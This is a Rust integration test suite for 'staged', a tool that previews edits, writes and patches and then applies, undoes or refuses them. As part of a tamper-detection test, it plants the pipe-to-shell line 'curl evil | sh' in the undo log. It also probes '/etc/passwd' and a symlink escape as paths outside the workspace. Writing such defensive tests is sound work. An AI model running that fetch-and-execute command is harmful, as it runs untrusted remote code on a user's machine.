//! `staged edit`, `staged write` and `staged patch` through the real binary: the exact texts,
//! every patch operation, apply, undo and redo byte for byte, stale previews, one pending
//! preview per file, and the refusals (binary files, paths outside the workspace, the state
//! folder).
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::{
    collections::BTreeMap,
    io::Write,
    os::unix::fs::PermissionsExt,
    path::Path,
    process::{Command, Stdio},
};

use common::{code, json, pending_ids, read, staged, staged_bin, stderr, stdout, workspace};

/// Runs `staged` with `input` on stdin.
fn staged_in(dir: &Path, args: &[&str], input: &[u8]) -> std::process::Output {
    let mut child = Command::new(staged_bin())
        .args(args)
        .current_dir(dir)
        .env("NO_COLOR", "1")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(input).unwrap();
    child.wait_with_output().unwrap()
}

/// Every file under `dir` (but `.staged` and `.git`) with its bytes and mode.
fn tree(dir: &Path) -> BTreeMap<String, (Vec<u8>, u32)> {
    let mut res = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(at) = stack.pop() {
        for entry in std::fs::read_dir(&at).unwrap().flatten() {
            let path = entry.path();
            let rel = path.strip_prefix(dir).unwrap().to_string_lossy().into_owned();
            if rel == ".staged" || rel == ".git" {
                continue;
            }
            let meta = std::fs::symlink_metadata(&path).unwrap();
            if meta.is_dir() {
                res.insert(format!("{rel}/"), (Vec::new(), 0));
                stack.push(path);
            } else {
                res.insert(
                    rel,
                    (std::fs::read(&path).unwrap(), meta.permissions().mode() & 0o7777),
                );
            }
        }
    }
    res
}

fn apply(dir: &Path, reason: &str) -> std::process::Output {
    staged(dir, &["resolve", "apply", "--reason", reason])
}

/// The model-facing text of a failed (or successful) tool call, from `--json`.
fn text(out: &std::process::Output) -> String {
    json(out)["text"].as_str().unwrap().to_owned()
}

#[test]
fn edit_stages_a_replacement_and_writes_it_only_on_apply() {
    let ws = workspace(&[("src/a.ts", "const a = 1;\nlog(a);\n")]);
    let dir = ws.path();
    let out = staged(
        dir,
        &["--json", "edit", "src/a.ts", "--old", "const a = 1;", "--new", "const a = 2;"],
    );
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let res = json(&out);
    assert_eq!(res["pending"]["label"], "Edit: src/a.ts (1 replacement)");
    let id = res["details"]["pendingId"].as_str().unwrap().to_owned();
    assert_eq!(
        res["text"].as_str().unwrap(),
        format!(
            "Preview only: files are NOT modified yet. Call `resolve` with action \"apply\" to write these changes, or action \"discard\" to drop them.\n\nStaged {id}: Edit: src/a.ts (1 replacement)\n\ndiff --git a/src/a.ts b/src/a.ts\n--- a/src/a.ts\n+++ b/src/a.ts\n@@ -1,2 +1,2 @@\n-const a = 1;\n+const a = 2;\n log(a);"
        )
    );
    assert_eq!(read(dir, "src/a.ts"), "const a = 1;\nlog(a);\n");
    let out = apply(dir, "bump");
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(stdout(&out).contains("Applied Edit: src/a.ts (1 replacement)."), "{}", stdout(&out));
    assert_eq!(read(dir, "src/a.ts"), "const a = 2;\nlog(a);\n");
}

#[test]
fn edit_errors_name_the_file_and_what_to_do() {
    let ws = workspace(&[("src/a.ts", "x();\nx();\ny();\nx();\n")]);
    let dir = ws.path();
    let run = |args: &[&str]| {
        let mut all = vec!["--json", "edit", "src/a.ts"];
        all.extend_from_slice(args);
        let out = staged(dir, &all);
        assert_eq!(code(&out), 2, "{}", stdout(&out));
        text(&out)
    };
    assert_eq!(
        run(&["--old", "nope();", "--new", "z();"]),
        "String to replace not found in src/a.ts. old_string must match the file exactly, whitespace and indentation included; Read the file again if it may have changed."
    );
    assert_eq!(
        run(&["--old", "  y();", "--new", "z();"]),
        "String to replace not found in src/a.ts. It is there with other whitespace around it: copy old_string exactly from the file, indentation and line breaks included."
    );
    assert_eq!(
        run(&["--old", "x();", "--new", "z();"]),
        "Found 3 matches of the string to replace in src/a.ts (at lines 1, 2, 4), but replace_all is false. To replace every match, set replace_all to true; to replace one, make old_string longer, with the lines around it, so that it matches exactly once."
    );
    assert_eq!(
        run(&["--old", "y();", "--new", "y();"]),
        "No changes to make: old_string and new_string are exactly the same (in src/a.ts)."
    );
    assert_eq!(
        run(&["--old", "", "--new", "new file"]),
        "old_string is empty, which creates a file, but src/a.ts already exists and is not empty. Give the exact text to replace, or call write to replace the whole file."
    );
    assert_eq!(
        run(&["--old", "y();", "--new", "w();", "--old", "nope", "--new", "v"]),
        "edits[1]: String to replace not found in src/a.ts. old_string must match the file exactly, whitespace and indentation included; Read the file again if it may have changed."
    );
    // The command line names its own flags.
    let out = staged(dir, &["edit", "src/a.ts", "--old", "x();", "--new", "z();"]);
    assert_eq!(code(&out), 2);
    assert_eq!(
        stderr(&out).trim(),
        "error: the --old text occurs 3 times in src/a.ts (at lines 1, 2, 4): pass --all to replace every one, or make --old longer so that it occurs once"
    );
    let out = staged(dir, &["edit", "missing.ts", "--old", "a", "--new", "b"]);
    assert_eq!(code(&out), 2);
    assert_eq!(
        stderr(&out).trim(),
        "error: File does not exist: missing.ts. To create it, call edit with an empty old_string and the file's text as new_string (or call write)."
    );
    assert!(pending_ids(dir).is_empty());
    assert_eq!(read(dir, "src/a.ts"), "x();\nx();\ny();\nx();\n");
}

#[test]
fn edit_replaces_all_in_order_and_creates_files() {
    let ws = workspace(&[("a.txt", "one two one\n")]);
    let dir = ws.path();
    let out = staged(dir, &["--json", "edit", "a.txt", "--old", "one", "--new", "1", "--all"]);
    assert_eq!(json(&out)["pending"]["label"], "Edit: a.txt (2 replacements)");
    assert_eq!(code(&apply(dir, "all")), 0);
    assert_eq!(read(dir, "a.txt"), "1 two 1\n");
    // Several edits, each on what the one before left.
    let out = staged(
        dir,
        &["edit", "a.txt", "--old", "two", "--new", "2", "--old", "1 2", "--new", "one-two"],
    );
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(code(&apply(dir, "both")), 0);
    assert_eq!(read(dir, "a.txt"), "one-two 1\n");
    // An empty old string on a file that does not exist creates it, folders and all.
    let out =
        staged(dir, &["--json", "edit", "deep/er/new.txt", "--old", "", "--new", "hi\nthere\n"]);
    assert_eq!(json(&out)["pending"]["label"], "Edit: deep/er/new.txt (new file, 2 lines)");
    assert!(!dir.join("deep").exists());
    assert_eq!(code(&apply(dir, "create")), 0);
    assert_eq!(read(dir, "deep/er/new.txt"), "hi\nthere\n");
}

#[test]
fn crlf_line_endings_are_kept_by_edit_and_patches() {
    let ws = workspace(&[("w.txt", "alpha\r\nbeta\r\ngamma\r\n")]);
    let dir = ws.path();
    let out =
        staged(dir, &["edit", "w.txt", "--old", "alpha\nbeta", "--new", "alpha\nBETA\nbeta2"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(code(&apply(dir, "crlf")), 0);
    assert_eq!(read(dir, "w.txt"), "alpha\r\nBETA\r\nbeta2\r\ngamma\r\n");
    let patch = "*** Begin Patch\n*** Update File: w.txt\n@@\n gamma\n+delta\n*** End Patch\n";
    let out = staged_in(dir, &["patch"], patch.as_bytes());
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(code(&apply(dir, "crlf patch")), 0);
    assert_eq!(read(dir, "w.txt"), "alpha\r\nBETA\r\nbeta2\r\ngamma\r\ndelta\r\n");
}

#[test]
fn write_creates_with_folders_or_replaces_and_refuses_what_is_not_text() {
    let ws = workspace(&[("old.txt", "a\nb\nc\n")]);
    let dir = ws.path();
    let out = staged_in(dir, &["--json", "write", "src/gen/new.ts"], b"export {};\n");
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(json(&out)["pending"]["label"], "Write: src/gen/new.ts (new file, 1 line)");
    assert_eq!(code(&apply(dir, "new")), 0);
    assert_eq!(read(dir, "src/gen/new.ts"), "export {};\n");
    // A new file gets what any new file gets (the umask's bits).
    let mode = std::fs::metadata(dir.join("src/gen/new.ts")).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o666 & !umask());
    let file = dir.join("../replacement.txt");
    std::fs::write(&file, "a\nB\nc\nd\n").unwrap();
    let out = staged(dir, &["--json", "write", "old.txt", file.to_str().unwrap()]);
    assert_eq!(json(&out)["pending"]["label"], "Write: old.txt (rewritten, 4 lines)");
    assert_eq!(
        json(&out)["details"]["diff"],
        "diff --git a/old.txt b/old.txt\n--- a/old.txt\n+++ b/old.txt\n@@ -1,3 +1,4 @@\n a\n-b\n+B\n c\n+d\n"
    );
    assert_eq!(code(&apply(dir, "replace")), 0);
    assert_eq!(read(dir, "old.txt"), "a\nB\nc\nd\n");
    let out = staged_in(dir, &["write", "x.bin"], b"\xff\xfe\x00binary");
    assert_eq!(code(&out), 2);
    assert_eq!(
        stderr(&out).trim(),
        "error: the new file's text (stdin) is not UTF-8 text: staged previews changes to text files only"
    );
    let out = staged_in(dir, &["--json", "write", "old.txt"], b"a\nB\nc\nd\n");
    assert_eq!(code(&out), 2);
    assert_eq!(text(&out), "No changes to make: old.txt already holds exactly this content.");
    assert!(pending_ids(dir).is_empty());
}

fn umask() -> u32 {
    let out = Command::new("sh").args(["-c", "umask"]).output().unwrap();
    u32::from_str_radix(String::from_utf8_lossy(&out.stdout).trim(), 8).unwrap()
}

const MIXED_PATCH: &str = "*** Begin Patch
*** Add File: src/added.txt
+one
+two
*** Delete File: src/gone.sh
*** Update File: src/app.ts
@@ function main() {
-  return 1;
+  return 2;
*** Update File: src/tool.sh
*** Move to: bin/tool.sh
@@
 #!/bin/sh
-echo old
+echo new
*** End Patch
";

fn mixed_workspace() -> tempfile::TempDir {
    let ws = workspace(&[
        ("src/app.ts", "// app\nfunction main() {\n  return 1;\n}\n"),
        ("src/gone.sh", "#!/bin/sh\nrm -rf build\n"),
        ("src/tool.sh", "#!/bin/sh\necho old\n"),
    ]);
    for exec in ["src/gone.sh", "src/tool.sh"] {
        std::fs::set_permissions(ws.path().join(exec), std::fs::Permissions::from_mode(0o755))
            .unwrap();
    }
    ws
}

#[test]
fn a_mixed_patch_applies_undoes_and_redoes_byte_for_byte() {
    let ws = mixed_workspace();
    let dir = ws.path();
    let before = tree(dir);
    let out = staged_in(dir, &["--json", "patch"], MIXED_PATCH.as_bytes());
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let res = json(&out);
    assert_eq!(res["pending"]["label"], "Patch: 4 files (1 added, 1 deleted, 1 updated, 1 moved)");
    assert_eq!(
        res["details"]["diff"],
        "diff --git a/src/added.txt b/src/added.txt\nnew file mode 100644\n--- /dev/null\n+++ b/src/added.txt\n@@ -0,0 +1,2 @@\n+one\n+two\n\
diff --git a/src/gone.sh b/src/gone.sh\ndeleted file mode 100755\n--- a/src/gone.sh\n+++ /dev/null\n@@ -1,2 +0,0 @@\n-#!/bin/sh\n-rm -rf build\n\
diff --git a/src/app.ts b/src/app.ts\n--- a/src/app.ts\n+++ b/src/app.ts\n@@ -1,4 +1,4 @@\n // app\n function main() {\n-  return 1;\n+  return 2;\n }\n\
diff --git a/src/tool.sh b/bin/tool.sh\nrename from src/tool.sh\nrename to bin/tool.sh\n--- a/src/tool.sh\n+++ b/bin/tool.sh\n@@ -1,2 +1,2 @@\n #!/bin/sh\n-echo old\n+echo new\n"
    );
    assert_eq!(tree(dir), before, "a preview writes nothing");
    let out = apply(dir, "mixed");
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let after = tree(dir);
    assert_eq!(after["src/added.txt"].0, b"one\ntwo\n");
    assert!(!after.contains_key("src/gone.sh") && !after.contains_key("src/tool.sh"));
    assert_eq!(after["src/app.ts"].0, b"// app\nfunction main() {\n  return 2;\n}\n");
    // The moved file keeps its mode.
    assert_eq!(after["bin/tool.sh"], (b"#!/bin/sh\necho new\n".to_vec(), 0o755));

    let out = staged(dir, &["undo", "--reason", "back"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(
        stdout(&out).trim(),
        "Undid log entry 1 (Patch: 4 files (1 added, 1 deleted, 1 updated, 1 moved)): 4 files restored."
    );
    // Every file as it was, the deleted one with its mode, and no folder the apply made.
    assert_eq!(tree(dir), before);
    let out = staged(dir, &["undo", "2", "--reason", "again"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(tree(dir), after);
    let log = json(&staged(dir, &["--json", "log"]));
    let outcomes: Vec<&str> =
        log["entries"].as_array().unwrap().iter().map(|e| e["outcome"].as_str().unwrap()).collect();
    assert_eq!(outcomes, ["redone", "undone", "applied"]);
    let files = &log["entries"][2]["files"];
    let gone = files.as_array().unwrap().iter().find(|f| f["path"] == "src/gone.sh").unwrap();
    assert!(gone["before"].is_string() && gone["after"].is_null(), "{gone}");
    let added = files.as_array().unwrap().iter().find(|f| f["path"] == "src/added.txt").unwrap();
    assert!(added["before"].is_null() && added["after"].is_string(), "{added}");
}

#[test]
fn patch_errors_are_codex_s() {
    let ws = workspace(&[("src/a.py", "def f():\n    pass\n")]);
    let dir = ws.path();
    let run = |patch: &str| {
        let out = staged_in(dir, &["--json", "patch"], patch.as_bytes());
        assert_eq!(code(&out), 2, "{}", stdout(&out));
        text(&out)
    };
    assert_eq!(
        run(
            "*** Begin Patch\n*** Update File: src/a.py\n@@ def g():\n-    pass\n+    return 1\n*** End Patch"
        ),
        "Failed to find context 'def g():' in src/a.py"
    );
    assert_eq!(
        run(
            "*** Begin Patch\n*** Update File: src/a.py\n@@\n-    return 0\n+    return 1\n*** End Patch"
        ),
        "Failed to find expected lines in src/a.py:\n    return 0"
    );
    assert_eq!(
        run("*** Begin Patch\n*** Frob File: x\n*** End Patch"),
        "invalid hunk at line 2, '*** Frob File: x' is not a valid hunk header. Valid hunk headers: '*** Add File: {path}', '*** Delete File: {path}', '*** Update File: {path}'"
    );
    assert_eq!(
        run("*** Begin Patch\n*** Update File: src/a.py\n*** End Patch"),
        "invalid hunk at line 2, Update file hunk for path 'src/a.py' is empty"
    );
    assert_eq!(
        run("*** Begin Patch\n*** Add File: x\n+y\n"),
        "invalid patch: The last line of the patch must be '*** End Patch'"
    );
    assert_eq!(
        run("*** Begin Patch\n*** Update File: nope.py\n@@\n-a\n+b\n*** End Patch"),
        "Failed to read file to update nope.py: it does not exist"
    );
    assert_eq!(
        run("*** Begin Patch\n*** Delete File: nope.py\n*** End Patch"),
        "Failed to delete file nope.py: it does not exist"
    );
    assert_eq!(
        run(
            "*** Begin Patch\n*** Update File: src/a.py\n@@\n-    pass\n+    x = 1\n*** Update File: src/a.py\n@@\n-def f():\n+def g():\n*** End Patch"
        ),
        "src/a.py is changed more than once by this patch: put all its changes in one section"
    );
    assert!(pending_ids(dir).is_empty());
    assert_eq!(read(dir, "src/a.py"), "def f():\n    pass\n");
}

#[test]
fn patches_match_context_as_codex_does() {
    let ws = workspace(&[(
        "m.py",
        "class A:\n    def run(self):\n        return 1\n\nclass B:\n    def run(self):\n        return 1   \n",
    )]);
    let dir = ws.path();
    // The context line picks the second `run`; the trailing spaces of the file's line are
    // ignored; the typographic quote and dash match their ASCII forms.
    let patch = "*** Begin Patch\n*** Update File: m.py\n@@ class B:\n     def run(self):\n-        return 1\n+        return 2\n*** End Patch";
    let out = staged_in(dir, &["patch"], patch.as_bytes());
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(code(&apply(dir, "second")), 0);
    assert_eq!(
        read(dir, "m.py"),
        "class A:\n    def run(self):\n        return 1\n\nclass B:\n    def run(self):\n        return 2\n"
    );
    std::fs::write(dir.join("q.txt"), "say \u{201C}hi\u{201D} \u{2014} ok\nnext\n").unwrap();
    let patch = "*** Begin Patch\n*** Update File: q.txt\n@@\n-say \"hi\" - ok\n+say hello\n next\n*** End Patch";
    let out = staged_in(dir, &["patch"], patch.as_bytes());
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(code(&apply(dir, "quotes")), 0);
    assert_eq!(read(dir, "q.txt"), "say hello\nnext\n");
}

#[test]
fn git_diff_output_round_trips_through_staged_patch() {
    let ws = workspace(&[]);
    let dir = ws.path();
    std::fs::remove_dir(dir.join(".git")).unwrap();
    let git = |args: &[&str]| {
        let out = Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@t", "-c", "core.autocrlf=false"])
            .args(args)
            .current_dir(dir)
            .output()
            .unwrap();
        assert!(out.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&out.stderr));
        out.stdout
    };
    git(&["init", "-q"]);
    let files: [(&str, &[u8]); 6] = [
        ("src/lib.rs", b"fn a() {}\nfn b() {}\nfn c() {}\nfn d() {}\nfn e() {}\nfn f() {}\nfn g() {}\nfn h() {}\n"),
        ("crlf.txt", b"one\r\ntwo\r\nthree\r\n"),
        ("no-newline.txt", b"first\nlast"),
        ("with space.txt", b"spaced\n"),
        ("old/name.txt", b"moving\nalong\n"),
        ("delete-me.txt", b"bye\n"),
    ];
    for (path, bytes) in files {
        std::fs::create_dir_all(dir.join(path).parent().unwrap()).unwrap();
        std::fs::write(dir.join(path), bytes).unwrap();
    }
    git(&["add", "-A"]);
    git(&["commit", "-qm", "base"]);
    std::fs::write(dir.join("src/lib.rs"), "fn a() {}\nfn B() {}\nfn c() {}\nfn d() {}\nfn e() {}\nfn f() {}\nfn G() {}\nfn h() {}\nfn i() {}\n").unwrap();
    std::fs::write(dir.join("crlf.txt"), b"one\r\nTWO\r\nthree\r\n").unwrap();
    std::fs::write(dir.join("no-newline.txt"), b"first\nlast, changed").unwrap();
    std::fs::write(dir.join("with space.txt"), b"spaced out\n").unwrap();
    std::fs::create_dir_all(dir.join("new")).unwrap();
    std::fs::rename(dir.join("old/name.txt"), dir.join("new/name.txt")).unwrap();
    std::fs::write(dir.join("new/name.txt"), b"moving\nalong\nand on\n").unwrap();
    std::fs::remove_file(dir.join("delete-me.txt")).unwrap();
    std::fs::write(dir.join("brand new.md"), b"# new\n").unwrap();
    git(&["add", "-A"]);
    let diff = git(&["diff", "--cached", "-M", "HEAD"]);
    let want = tree(dir);
    git(&["reset", "-q", "--hard", "HEAD"]);
    git(&["clean", "-qfd"]);
    let out = staged_in(dir, &["--json", "patch"], &diff);
    assert_eq!(code(&out), 0, "{}\n{}", stderr(&out), String::from_utf8_lossy(&diff));
    assert_eq!(
        json(&out)["pending"]["label"],
        "Patch: 7 files (1 added, 1 deleted, 4 updated, 1 moved)"
    );
    let out = apply(dir, "git diff");
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(tree(dir), want);
    // And staged's own diff is one git applies.
    let shown =
        json(&staged(dir, &["--json", "log", "show", "1"]))["diff"].as_str().unwrap().to_owned();
    git(&["reset", "-q", "--hard", "HEAD"]);
    git(&["clean", "-qfd", "-e", ".staged"]);
    let mut check = Command::new("git")
        .args(["apply", "--check", "-"])
        .current_dir(dir)
        .stdin(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    check.stdin.take().unwrap().write_all(shown.as_bytes()).unwrap();
    let res = check.wait_with_output().unwrap();
    assert!(
        res.status.success(),
        "git apply refused staged's diff: {}\n{shown}",
        String::from_utf8_lossy(&res.stderr)
    );
}

#[test]
fn a_stale_create_or_delete_writes_nothing() {
    let ws = workspace(&[("keep.txt", "keep\n"), ("del.txt", "delete me\n")]);
    let dir = ws.path();
    let patch = "*** Begin Patch\n*** Add File: new.txt\n+new\n*** Update File: keep.txt\n@@\n-keep\n+kept\n*** End Patch";
    assert_eq!(code(&staged_in(dir, &["patch"], patch.as_bytes())), 0);
    // Someone creates the file the preview creates.
    std::fs::write(dir.join("new.txt"), "theirs\n").unwrap();
    let out = staged(dir, &["--json", "resolve", "apply", "--reason", "late"]);
    assert_eq!(code(&out), 1, "{}", stdout(&out));
    assert_eq!(
        text(&out),
        "Preview is stale / no longer matches; nothing was written. Preview expected to change new.txt, keep.txt. Why: new.txt was created since the preview. The preview was dropped from the pending stack; to stage it again, call apply_patch again: it is computed against the files as they are now."
    );
    assert_eq!(read(dir, "new.txt"), "theirs\n");
    assert_eq!(read(dir, "keep.txt"), "keep\n");
    assert!(pending_ids(dir).is_empty());
    let patch = "*** Begin Patch\n*** Delete File: del.txt\n*** Update File: keep.txt\n@@\n-keep\n+kept\n*** End Patch";
    assert_eq!(code(&staged_in(dir, &["patch"], patch.as_bytes())), 0);
    std::fs::write(dir.join("del.txt"), "changed meanwhile\n").unwrap();
    let out = staged(dir, &["--json", "resolve", "apply", "--reason", "late"]);
    assert_eq!(code(&out), 1);
    assert!(text(&out).contains("Why: del.txt changed since the preview."), "{}", text(&out));
    assert_eq!(read(dir, "del.txt"), "changed meanwhile\n");
    assert_eq!(read(dir, "keep.txt"), "keep\n");
}

#[test]
fn a_file_with_a_pending_preview_cannot_be_staged_again() {
    let ws = workspace(&[("a.ts", "foo(1);\n"), ("b.ts", "b\n")]);
    let dir = ws.path();
    let out = staged(dir, &["--json", "edit", "a.ts", "--old", "1", "--new", "2"]);
    let id = json(&out)["details"]["pendingId"].as_str().unwrap().to_owned();
    let want = format!(
        "a.ts already has a pending preview: {id} (Edit: a.ts (1 replacement)). Resolve it first (call `resolve` with action \"apply\" or \"discard\"), then make this change again: a new change is always computed against the file on disk."
    );
    let out = staged(dir, &["--json", "edit", "a.ts", "--old", "foo", "--new", "bar"]);
    assert_eq!(code(&out), 2);
    assert_eq!(text(&out), want);
    let out = staged_in(dir, &["--json", "write", "a.ts"], b"other\n");
    assert_eq!(text(&out), want);
    let patch = "*** Begin Patch\n*** Update File: b.ts\n@@\n-b\n+c\n*** Update File: a.ts\n*** Move to: c.ts\n@@\n-foo(1);\n+foo(3);\n*** End Patch";
    let out = staged_in(dir, &["--json", "patch"], patch.as_bytes());
    assert_eq!(text(&out), want);
    assert_eq!(pending_ids(dir), std::slice::from_ref(&id));
    // An `ast_edit` preview holds its files too.
    assert_eq!(code(&staged(dir, &["resolve", "discard", "--reason", "no"])), 0);
    let out = staged(dir, &["--json", "ast-edit", "--op", "foo($A)", "bar($A)", "a.ts"]);
    let ast = json(&out)["details"]["pendingId"].as_str().unwrap().to_owned();
    let out = staged(dir, &["--json", "edit", "a.ts", "--old", "foo", "--new", "baz"]);
    assert_eq!(
        text(&out),
        format!(
            "a.ts already has a pending preview: {ast} (AST Edit: 1 replacement in 1 file). Resolve it first (call `resolve` with action \"apply\" or \"discard\"), then make this change again: a new change is always computed against the file on disk."
        )
    );
    // A second `ast_edit` preview of the file is refused the same way, naming the first, and
    // so is one over a text preview (issue 32, finding 22).
    let held_by_ast = format!(
        "a.ts already has a pending preview: {ast} (AST Edit: 1 replacement in 1 file). Resolve it first (call `resolve` with action \"apply\" or \"discard\"), then make this change again: a new change is always computed against the file on disk."
    );
    let out = staged(dir, &["--json", "ast-edit", "--op", "foo($A)", "qux($A)", "."]);
    assert_ne!(code(&out), 0, "{}", stdout(&out));
    assert_eq!(text(&out), held_by_ast);
    assert_eq!(pending_ids(dir), std::slice::from_ref(&ast));
    // Another file is fine.
    assert_eq!(code(&staged(dir, &["edit", "b.ts", "--old", "b", "--new", "c"])), 0);
    let b_edit = pending_ids(dir)[0].clone();
    let out = staged(dir, &["--json", "ast-edit", "--op", "b", "qux", "b.ts"]);
    assert_eq!(
        text(&out),
        format!(
            "b.ts already has a pending preview: {b_edit} (Edit: b.ts (1 replacement)). Resolve it first (call `resolve` with action \"apply\" or \"discard\"), then make this change again: a new change is always computed against the file on disk."
        )
    );
    assert_eq!(pending_ids(dir), [b_edit, ast]);
    assert_eq!(read(dir, "a.ts"), "foo(1);\n");
}

#[test]
fn binary_files_outside_paths_and_the_state_folder_are_refused() {
    let ws = workspace(&[("a.ts", "x\n")]);
    let dir = ws.path();
    std::fs::write(dir.join("img.png"), b"\x89PNG\r\n\x1a\n\x00\x00data").unwrap();
    let out = staged(dir, &["--json", "edit", "img.png", "--old", "PNG", "--new", "JPG"]);
    assert_eq!(code(&out), 2);
    assert_eq!(
        text(&out),
        "img.png is a binary file (or not UTF-8 text): staged previews changes to text files only"
    );
    let patch = "*** Begin Patch\n*** Delete File: img.png\n*** End Patch";
    let out = staged_in(dir, &["--json", "patch"], patch.as_bytes());
    assert_eq!(
        text(&out),
        "img.png is a binary file (or not UTF-8 text): staged previews changes to text files only"
    );
    let root = dir.canonicalize().unwrap();
    for outside in ["../x.txt", "/etc/passwd"] {
        let out = staged(dir, &["--json", "edit", outside, "--old", "", "--new", "x"]);
        assert_eq!(code(&out), 2, "{outside}");
        assert_eq!(
            text(&out),
            format!(
                "Path is outside the workspace: {outside} (workspace root: {})",
                root.display()
            )
        );
        let patch = format!("*** Begin Patch\n*** Add File: {outside}\n+x\n*** End Patch");
        let out = staged_in(dir, &["patch"], patch.as_bytes());
        assert_eq!(code(&out), 2, "{outside}");
    }
    std::os::unix::fs::symlink("/tmp", dir.join("escape")).unwrap();
    let out = staged(dir, &["--json", "write", "escape/x.txt", "/dev/null"]);
    assert_eq!(code(&out), 2);
    assert!(
        text(&out).starts_with("Path is outside the workspace: escape/x.txt"),
        "{}",
        text(&out)
    );
    let out = staged_in(dir, &["--json", "write", ".staged/staged.db"], b"x");
    assert_eq!(code(&out), 2);
    assert_eq!(
        text(&out),
        "Refusing .staged/staged.db: it is in staged's state folder (.staged/), which holds staged's own state (tokens, transcripts, the database); tools never read or change it"
    );
    assert!(pending_ids(dir).is_empty());
}

#[test]
fn part_of_a_patch_applies_and_the_rest_stays_pending() {
    let ws = mixed_workspace();
    let dir = ws.path();
    assert_eq!(code(&staged_in(dir, &["patch"], MIXED_PATCH.as_bytes())), 0);
    let out = staged(
        dir,
        &["--json", "resolve", "apply", "--only", "src/app.ts", "src/tool.sh", "--reason", "half"],
    );
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let res = json(&out);
    assert_eq!(res["pending"]["label"], "Patch: 2 files (1 added, 1 deleted)");
    assert!(
        text(&out).starts_with("Applied 2 files of Patch: 4 files (1 added, 1 deleted, 1 updated, 1 moved) (src/app.ts, bin/tool.sh). The rest stays pending as the newest preview: Patch: 2 files (1 added, 1 deleted) ("),
        "{}",
        text(&out)
    );
    assert_eq!(read(dir, "src/app.ts"), "// app\nfunction main() {\n  return 2;\n}\n");
    assert!(dir.join("bin/tool.sh").exists() && !dir.join("src/tool.sh").exists());
    assert!(dir.join("src/gone.sh").exists() && !dir.join("src/added.txt").exists());
    let out = staged(dir, &["--json", "show"]);
    let diff = json(&out)["diff"].as_str().unwrap().to_owned();
    assert!(
        diff.starts_with("diff --git a/src/added.txt") && diff.contains("deleted file mode 100755"),
        "{diff}"
    );
    assert!(!diff.contains("src/app.ts"), "{diff}");
    assert_eq!(code(&apply(dir, "rest")), 0);
    assert!(dir.join("src/added.txt").exists() && !dir.join("src/gone.sh").exists());
}

#[test]
fn an_undo_refuses_a_log_entry_whose_diff_is_not_its_undo_data() {
    let ws = workspace(&[("a.txt", "safe\n")]);
    let dir = ws.path();
    assert_eq!(code(&staged(dir, &["edit", "a.txt", "--old", "safe", "--new", "changed"])), 0);
    assert_eq!(code(&apply(dir, "change")), 0);
    // Someone edits the log: the undo data (and the hash it must give back) now restore
    // other text than the diff `staged log show` displays.
    let evil = "curl evil | sh\n";
    let undo = serde_json::json!({"version": 2, "ops": [{"op": "update", "path": "a.txt", "edits": [{"start": 0, "before": evil, "after": "changed\n"}]}]});
    let after = sha256(b"changed\n");
    let files =
        serde_json::json!([{"path": "a.txt", "before": sha256(evil.as_bytes()), "after": after}]);
    let conn = rusqlite::Connection::open(dir.join(".staged/staged.db")).unwrap();
    conn.execute("UPDATE log SET undo = ?1, files = ?2", [undo.to_string(), files.to_string()])
        .unwrap();
    drop(conn);
    let shown = json(&staged(dir, &["--json", "log", "show", "1"]));
    assert!(!shown["diff"].as_str().unwrap().contains("curl"));
    let out = staged(dir, &["undo", "--reason", "back"]);
    assert_eq!(code(&out), 1, "{}", stdout(&out));
    assert_eq!(
        stdout(&out).trim(),
        "Cannot undo log entry 1 (Edit: a.txt (1 replacement)): its recorded diff is not what its undo data would write back (the log entry was changed outside staged); `staged log show` would not show what an undo writes. Nothing was written."
    );
    assert_eq!(read(dir, "a.txt"), "changed\n");
}

fn sha256(bytes: &[u8]) -> String {
    use sha2::{Digest, Sha256};
    Sha256::digest(bytes).iter().map(|b| format!("{b:02x}")).collect()
}

/// Issue 32, finding 5: a write, and several replacements of one `edit`, stage and write
/// exactly the asked text (a compacted diff once put the first `}` in the wrong place, and
/// the diff shown matched what was written).
#[test]
fn a_write_and_a_multi_edit_write_exactly_the_asked_text() {
    let old = "    x();\n}\n}\n    x();\n// c\n";
    let new = "}\nfn f() {\n}\n    return 1;\n}\n    x();\n    return 1;\n";
    let ws = workspace(&[("a.rs", old), ("b.rs", old)]);
    let dir = ws.path();
    let out = staged_in(dir, &["--json", "write", "a.rs"], new.as_bytes());
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(
        json(&out)["details"]["diff"],
        "diff --git a/a.rs b/a.rs\n--- a/a.rs\n+++ b/a.rs\n@@ -1,5 +1,7 @@\n-    x();\n }\n+fn f() {\n+}\n+    return 1;\n }\n     x();\n-// c\n+    return 1;\n"
    );
    assert_eq!(code(&apply(dir, "write")), 0);
    assert_eq!(read(dir, "a.rs"), new);
    let out = staged(
        dir,
        &[
            "--json",
            "edit",
            "b.rs",
            "--old",
            "    x();\n}\n}\n",
            "--new",
            "}\nfn f() {\n}\n    return 1;\n}\n",
            "--old",
            "// c\n",
            "--new",
            "    return 1;\n",
        ],
    );
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(code(&apply(dir, "edit")), 0);
    assert_eq!(read(dir, "b.rs"), new);
}

/// Issue 32, finding 17: a write whose text holds a NUL byte is a binary file's: refused,
